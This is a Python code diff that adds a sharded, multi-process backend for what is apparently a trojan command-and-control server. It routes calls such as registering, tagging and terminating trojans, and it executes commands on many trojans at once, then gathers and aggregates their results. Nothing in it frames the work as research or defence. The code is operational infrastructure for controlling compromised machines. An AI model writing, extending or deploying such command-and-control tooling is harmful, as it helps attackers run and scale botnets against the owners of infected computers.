+def merge_executed(trojan_id_list, executed, locate):
+    """
+    Merges the results of 'execute' calls, which each executed a part of the given trojan list, back into the order of
+    that list. Every part has to keep the order of its ids, thus the results can be merged by walking the list and
+    taking the next result of the part, which the id belongs to, if that is the id. Otherwise that trojan was not online
+    Args:
+        trojan_id_list: The list of the string trojan ids, that was split into the parts
+        executed: The dict with the keys of the parts as keys and the (trojan_ids, command_ids) tuples returned by the
+            'execute' calls as values
+        locate: The function, which returns the key of the part for a trojan id
+
+    Returns:
+    The tuple (trojan_ids, command_ids)
+    """
+    positions = dict.fromkeys(executed, 0)
+    successfully_passed = []
+    command_ids = []
+    for trojan_id in trojan_id_list:
+        key = locate(trojan_id)
+        passed, part_command_ids = executed[key]
+        position = positions[key]
+        if position < len(passed) and passed[position] == trojan_id:
+            successfully_passed.append(trojan_id)
+            command_ids.append(part_command_ids[position])
+            positions[key] += 1
+    return successfully_passed, command_ids
+
+
+def merge_broadcast(executed):
+    """
+    Merges the results of 'execute' calls, which each resolved the same symbolic addresses on a different part of the
+    trojans, by concatenating them
+    Args:
+        executed: The list of the (trojan_ids, command_ids) tuples returned by the 'execute' calls
+
+    Returns:
+    The tuple (trojan_ids, command_ids)
+    """
+    successfully_passed = []
+    command_ids = []
+    for passed, part_command_ids in executed:
+        successfully_passed += passed
+        command_ids += part_command_ids
+    return successfully_passed, command_ids
+
+
+def merge_popped(trojan_ids, command_ids, popped):
+    """
+    Merges the results of 'pop_results' calls, which each popped a part of the given commands, back into the order of
+    the given ids
+    Args:
+        trojan_ids: The list of the string trojan ids
+        command_ids: The list of the command ids
+        popped: The list of the (results, missing) tuples returned by the 'pop_results' calls
+
+    Returns:
+    The tuple (results, missing)
+    """
+    results = []
+    missing = []
+    for part_results, part_missing in popped:
+        results += part_results
+        missing += part_missing
+    order = {key: position for position, key in enumerate(zip(trojan_ids, command_ids))}
+    results.sort(key=lambda result: order[result[:2]])
+    missing.sort(key=lambda key: order[key])
+    return results, missing
+
+
+class ManagementShard(mp.Process):
+    """
+    A ManagementShard is a process, which runs its own TrojanManagement for the part of the trojans, whose ids hash to
+    its index, see 'shard_of'. Each shard has its own trojan dict, pending returns and shelf, the shelf of a shard is
+    the given filename with the index of the shard appended.
+    The shard receives calls to the methods of its management as (call id, method name, args) tuples from the input
+    queue and puts (call id, result, error) tuples into the output queue. In between the calls it runs the cycles of
+    the management, at least once every interval, no matter how many calls arrive.
+    Args:
+        index: The integer index of the shard
+        shelve_filename: The string path of the shelf, to which the index is appended
+        input_queue: The multiprocessing queue of the calls. None stops the shard
+        output_queue: The multiprocessing queue of the results of the calls
+        interval: The float amount of seconds between two cycles, which run whether or not calls arrive. Default is
+            0.01
+        sync_interval: The float amount of seconds between writing the shelf to the disk. Default is 1
+        snapshot_filename: The string path of the snapshot file, to which the index is appended. Default is None, which
+            means no snapshots. A last snapshot is taken, when the shard is stopped
+        snapshot_interval: The float amount of seconds between two snapshots. Default is 5
+    """
+    # The methods of the management, that can be called through the queue
+    METHODS = ("add_trojan", "register_trojan", "trojan_registered", "trojan_online", "terminate_trojan", "tag_trojan",
+               "untag_trojan", "execute", "pop_results", "aggregate", "poll_aggregate", "pop_removed")
+
+    def __init__(self, index, shelve_filename, input_queue, output_queue, interval=0.01, sync_interval=1,
+                 snapshot_filename=None, snapshot_interval=5):
+        mp.Process.__init__(self)
+        self.index = index
+        self.shelve_filename = "{}.{}".format(shelve_filename, index)
+        self.snapshot_filename = None if snapshot_filename is None else "{}.{}".format(snapshot_filename, index)
+        self.snapshot_interval = snapshot_interval
+        self.input = input_queue
+        self.output = output_queue
+        self.interval = interval
+        self.sync_interval = sync_interval
+
+    def run(self):
+        management = TrojanManagement(self.shelve_filename, self.snapshot_filename, self.snapshot_interval)
+        last_sync = time.time()
+        last_cycle = time.time()
+        try:
+            while True:
+                # Waiting for a call at most until the next cycle is due
+                try:
+                    call = self.input.get(timeout=max(0, last_cycle + self.interval - time.time()))
+                except queue.Empty:
+                    call = False
+                if call is None:
+                    break
+                if call:
+                    self.output.put(self.evaluate_call(management, *call))
+                # Working off the calls, which arrived in the meantime, until the next cycle is due. The cycle runs at
+                # least every interval, as a steady stream of calls would keep the returns from being collected
+                if time.time() - last_cycle < self.interval:
+                    continue
+
+                sync = time.time() - last_sync >= self.sync_interval
+                management.cycle(sync)
+                last_cycle = time.time()
+                if sync:
+                    last_sync = last_cycle
+        finally:
+            # The shelf has to be closed, even if the last snapshot fails
+            try:
+                if self.snapshot_filename is not None:
+                    management.save_snapshot()
+            finally:
+                management.shelf.close()
+
+    def evaluate_call(self, management, call_id, method, args):
+        """
+        Calls the method of the given name of the management with the given args
+        Args:
+            management: The TrojanManagement object of the shard
+            call_id: The integer id of the call
+            method: The string name of the method, one of METHODS
+            args: The tuple of the positional arguments
+
+        Returns:
+        The tuple (call id, result, error), where error is the exception raised by the method or None
+        """
+        try:
+            assert method in self.METHODS, "The method {} cannot be called on a shard".format(method)
+            return call_id, getattr(management, method)(*args), None
+        except Exception as exception:
+            return call_id, None, exception
+
+
+class ShardedManagement:
+    """
+    The ShardedManagement partitions the trojans across multiple ManagementShard processes by their ids, so that the
+    management can use more than one core. It offers the same methods as the TrojanManagement: the methods for a
+    single trojan are routed to its shard, 'execute' and 'pop_results' are split by shard, sent to all of those shards
+    at once and their results are merged back into the order of the given ids.
+    The methods can be called from multiple threads. The results of every shard are received by a thread, that
+    resolves the future of the according call.
+    Note that with treat_missing, the command may already be issued on the other shards, when one shard raises the
+    error for a missing trojan.
+    Args:
+        shelve_filename: The string path of the shelves, the index of the shard is appended to it
+        shard_amount: The integer amount of shard processes. Default is the amount of cores
+        interval: The float amount of seconds between two cycles of the shards. Default is 0.01
+        snapshot_filename: The string path of the snapshot files, the index of the shard is appended to it. Default is
+            None, which means no snapshots
+        snapshot_interval: The float amount of seconds between two snapshots of a shard. Default is 5
+        timeout: The float amount of seconds to wait for the result of a shard, before the call fails with a
+            TimeoutError. Default is 30
+    """
+    def __init__(self, shelve_filename, shard_amount=None, interval=0.01, snapshot_filename=None, snapshot_interval=5,
+                 timeout=30):
+        self.shard_amount = shard_amount or mp.cpu_count()
+        self.timeout = timeout
+        self.inputs = [mp.Queue() for _ in range(self.shard_amount)]
+        self.outputs = [mp.Queue() for _ in range(self.shard_amount)]
+        self.shards = [
+            ManagementShard(index, shelve_filename, self.inputs[index], self.outputs[index], interval,
+                            snapshot_filename=snapshot_filename, snapshot_interval=snapshot_interval)
+            for index in range(self.shard_amount)
+        ]
+        self.receivers = [
+            threading.Thread(target=self.receive_results, args=(output,), daemon=True) for output in self.outputs
+        ]
+
+        # The dict with the call ids as keys and the futures of the calls as values
+        self._pending = {}
+        self._lock = threading.Lock()
+        self._counter = itertools.count()
+
+        # The dict with the integer ids of the aggregations as keys and the CombinedAggregations of the shards as values
+        self._aggregations = {}
+        self._aggregation_counter = itertools.count()
+
+    def start(self):
+        for shard in self.shards:
+            shard.start()
+        for receiver in self.receivers:
+            receiver.start()
+
+    def stop(self):
+        """
+        Stops all the shard processes, after they worked off the calls, that were already sent to them
+        Returns:
+        void
+        """
+        for shard_input in self.inputs:
+            shard_input.put(None)
+        for shard in self.shards:
+            shard.join()
+        for output in self.outputs:
+            output.put(None)
+        for receiver in self.receivers:
+            receiver.join()
+
+    def cycle(self, sync=True):
+        """
+        The shards run the cycles of their managements themselves, thus there is nothing to do here. This only exists,
+        so that the ShardedManagement can be used wherever a TrojanManagement is driven from outside
+        """
+        pass
+
+    def receive_results(self, output):
+        """
+        The main loop of the threads, that resolve the futures with the results of the shard of the given output queue
+        Args:
+            output: The multiprocessing queue of the results of the shard
+
+        Returns:
+        void
+        """
+        while True:
+            item = output.get()
+            if item is None:
+                break
+            call_id, result, error = item
+            with self._lock:
+                future = self._pending.pop(call_id)
+            # The caller may have given up on the call, see 'wait'
+            if not future.set_running_or_notify_cancel():
+                continue
+            if error is not None:
+                future.set_exception(error)
+            else:
+                future.set_result(result)
+
+    def call(self, index, method, *args):
+        """
+        Sends the call of the method of the given name to the shard of the given index
+        Args:
+            index: The integer index of the shard
+            method: The string name of the method
+            *args: The positional arguments of the method
+
+        Returns:
+        The concurrent.futures.Future of the result
+        """
+        future = concurrent.futures.Future()
+        with self._lock:
+            call_id = next(self._counter)
+            self._pending[call_id] = future
+        self.inputs[index].put((call_id, method, args))
+        return future
+
+    def wait(self, future):
+        """
+        Waits for the result of a call to a shard and returns it
+        Raises:
+            TimeoutError: In case the shard did not answer within the timeout, e.g. because it crashed
+        """
+        try:
+            return future.result(self.timeout)
+        except concurrent.futures.TimeoutError:
+            # The result may still arrive later, but nobody waits for it anymore
+            future.cancel()
+            raise TimeoutError("The shard did not answer within {} seconds".format(self.timeout))
+
+    def call_trojan(self, trojan_id, method, *args):
+        """
+        Calls the method on the shard of the given trojan, with the trojan id as the first argument and waits for the
+        result
+        """
+        return self.wait(self.call(shard_of(trojan_id, self.shard_amount), method, trojan_id, *args))
+
+    def split(self, trojan_ids, *columns):
+        """
+        Splits the given trojan ids and the items of the other lists at the same positions by the shards of the ids
+        Args:
+            trojan_ids: The list of the string trojan ids
+            *columns: Lists of the same length as the trojan ids
+
+        Returns:
+        The dict with the shard indices as keys and lists of the split lists as values, the first of which is the one
+        of the trojan ids
+        """
+        parts = {}
+        for items in zip(trojan_ids, *columns):
+            index = shard_of(items[0], self.shard_amount)
+            part = parts.setdefault(index, [[] for _ in items])
+            for column, item in zip(part, items):
+                column.append(item)
+        return parts
+
+    def add_trojan(self, trojan):
+        self.wait(self.call(shard_of(trojan.id, self.shard_amount), "add_trojan", trojan))
+
+    def register_trojan(self, trojan_id):
+        self.call_trojan(trojan_id, "register_trojan")
+
+    def trojan_registered(self, trojan_id):
+        return self.call_trojan(trojan_id, "trojan_registered")
+
+    def trojan_online(self, trojan_id):
+        return self.call_trojan(trojan_id, "trojan_online")
+
+    def terminate_trojan(self, trojan_id):
+        self.call_trojan(trojan_id, "terminate_trojan")
+
+    def pop_removed(self):
+        """
+        Returns the ids of the trojans, that were removed from all the shards, see TrojanManagement.pop_removed
+        """
+        futures = [self.call(index, "pop_removed") for index in range(self.shard_amount)]
+        return [trojan_id for future in futures for trojan_id in self.wait(future)]
+
+    def tag_trojan(self, trojan_id, tags):
+        self.call_trojan(trojan_id, "tag_trojan", tags)
+
+    def untag_trojan(self, trojan_id, tags):
+        self.call_trojan(trojan_id, "untag_trojan", tags)
+
+    def execute(self, trojan_id_list, command, priority, pos_args, kw_args, treat_missing=False, trace=None,
+                coalesce=False):
+        """
+        Executes the command on the given trojans, see TrojanManagement.execute. The ids are split by their shards,
+        all the shards execute their part at the same time and the results are merged back into the order of the given
+        list. Symbolic addresses are sent to all the shards, together with the ids of the trojans of each shard
+        Returns:
+        The tuple (trojan_ids, command_ids)
+        """
+        start = tracing.now()
+        if any(is_symbolic(address) for address in trojan_id_list):
+            # Every shard resolves the symbolic addresses with its own index and the results are simply concatenated.
+            # The plain ids are only sent to their own shard, as the other shards would not find those trojans
+            symbolic = [address for address in trojan_id_list if is_symbolic(address)]
+            parts = self.split([address for address in trojan_id_list if not is_symbolic(address)])
+            futures = [
+                self.call(index, "execute", symbolic + parts.get(index, [[]])[0], command, priority, pos_args, kw_args,
+                          treat_missing, None, coalesce)
+                for index in range(self.shard_amount)
+            ]
+            successfully_passed, command_ids = merge_broadcast([self.wait(future) for future in futures])
+        else:
+            futures = {
+                index: self.call(index, "execute", part[0], command, priority, pos_args, kw_args, treat_missing, None,
+                                 coalesce)
+                for index, part in self.split(trojan_id_list).items()
+            }
+            executed = {index: self.wait(future) for index, future in futures.items()}
+            successfully_passed, command_ids = merge_executed(
+                trojan_id_list, executed, lambda trojan_id: shard_of(trojan_id, self.shard_amount)
+            )
+
+        if trace is not None:
+            trace.add_span("management.execute", start, tracing.now())
+        return successfully_passed, command_ids
+
+    def pop_results(self, trojan_ids, command_ids, command_name):
+        """
+        Takes the available returns of the given commands out of the shards, see TrojanManagement.pop_results
+        Returns:
+        The tuple (results, missing)
+        """
+        futures = [
+            self.call(index, "pop_results", part[0], part[1], command_name)
+            for index, part in self.split(trojan_ids, command_ids).items()
+        ]
+        return merge_popped(trojan_ids, command_ids, [self.wait(future) for future in futures])
+
+    def aggregate(self, trojan_ids, command_ids, command_name, reducer):
+        """
+        Folds the returns of the given commands into the state of the reducer, see TrojanManagement.aggregate. Every
+        shard aggregates the returns of its trojans and the states of the shards are combined when polled
+        Returns:
+        The integer id of the aggregation
+        """
+        futures = {
+            index: self.call(index, "aggregate", part[0], part[1], command_name, reducer)
+            for index, part in self.split(trojan_ids, command_ids).items()
+        }
+        parts = {index: self.wait(future) for index, future in futures.items()}
+        with self._lock:
+            aggregation_id = next(self._aggregation_counter)
+            self._aggregations[aggregation_id] = CombinedAggregation(reducer, parts)
+        return aggregation_id
+
+    def poll_aggregate(self, aggregation_id, discard=False):
+        """
+        Returns the combined state of the aggregation of all the shards, see TrojanManagement.poll_aggregate
+        Returns:
+        The tuple (state, missing)
+        """
+        aggregation = self._aggregations[aggregation_id]
+        futures = {
+            index: self.call(index, "poll_aggregate", part_id, discard)
+            for index, part_id in list(aggregation.parts.items())
+        }
+        state, missing = aggregation.update({index: self.wait(future) for index, future in futures.items()})
+        if missing == 0 or discard:
+            with self._lock:
+                self._aggregations.pop(aggregation_id, None)
+        return state, missing